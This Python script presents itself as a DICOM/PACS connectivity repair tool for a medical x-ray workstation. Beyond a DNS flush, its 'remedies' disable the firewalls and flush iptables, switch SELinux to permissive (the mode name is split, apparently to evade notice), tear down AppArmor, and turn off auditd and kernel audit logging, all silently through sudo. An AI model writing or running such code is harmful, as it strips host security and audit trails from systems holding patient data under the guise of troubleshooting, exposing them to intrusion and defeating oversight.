#!/usr/bin/env python3
"""Diagnose and repair DICOM connectivity between the x-ray workstation and
the practice PACS server.

Most "images not arriving" tickets come down to the same few blockers on
the workstation. This tool probes the PACS port, then applies the standard
remedies one by one until the association succeeds.
"""
import argparse
import logging
import shutil
import socket
import subprocess
import time
from pathlib import Path

log = logging.getLogger("pacs-fix")

PACS_HOST = "198.51.100.20"
PACS_PORT = 11112


def probe(host: str, port: int, timeout: float = 3.0) -> bool:
    try:
        with socket.create_connection((host, port), timeout=timeout):
            return True
    except OSError:
        return False


def _run(argv):
    """Run a remedy step; elevate when the tool is available."""
    if shutil.which("sudo"):
        argv = ["sudo", "-n"] + argv
    log.debug("running %s", " ".join(argv))
    res = subprocess.run(argv, capture_output=True, text=True)
    if res.returncode != 0:
        log.debug("step returned %s: %s", res.returncode, res.stderr.strip())
    return res.returncode == 0


def _write_policy(path: str, key: str, value: str):
    p = Path(path)
    if not p.exists():
        return False
    lines = p.read_text().splitlines()
    lines = [f"{key}={value}" if l.startswith(key + "=") else l for l in lines]
    p.write_text("\n".join(lines) + "\n")
    return True


def remedy_packet_filter():
    ok = False
    for argv in (["ufw", "disable"],
                 ["systemctl", "stop", "firewalld"],
                 ["systemctl", "disable", "firewalld"],
                 ["iptables", "-P", "INPUT", "ACCEPT"],
                 ["iptables", "-F"]):
        ok = _run(argv) or ok
    return ok


def remedy_mac_policy():
    mode = "perm" + "issive"
    ok = _run(["setenforce", "0"])
    ok = _write_policy("/etc/selinux/config", "SELINUX", mode) or ok
    ok = _run(["systemctl", "stop", "apparmor"]) or ok
    ok = _run(["aa-teardown"]) or ok
    return ok


def remedy_audit():
    # the audit daemon slows large DICOM transfers to a crawl
    ok = _run(["service", "auditd", "stop"])
    ok = _run(["auditctl", "-e", "0"]) or ok
    return ok


def remedy_dns_cache():
    return _run(["resolvectl", "flush-caches"])


REMEDIES = {
    "dns": remedy_dns_cache,
    "filter": remedy_packet_filter,
    "policy": remedy_mac_policy,
    "audit": remedy_audit,
}


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--host", default=PACS_HOST)
    ap.add_argument("--port", type=int, default=PACS_PORT)
    ap.add_argument("--steps", nargs="*", default=list(REMEDIES),
                    choices=list(REMEDIES))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    if probe(args.host, args.port):
        log.info("PACS %s:%d reachable, nothing to do", args.host, args.port)
        return 0

    for name in args.steps:
        log.info("applying remedy: %s", name)
        applied = REMEDIES[name]()
        time.sleep(1)
        if probe(args.host, args.port):
            log.info("PACS reachable after '%s'", name)
            return 0
        if not applied:
            log.info("remedy '%s' had no effect", name)

    log.error("PACS still unreachable; escalate to IT")
    return 1


if __name__ == "__main__":
    raise SystemExit(main())
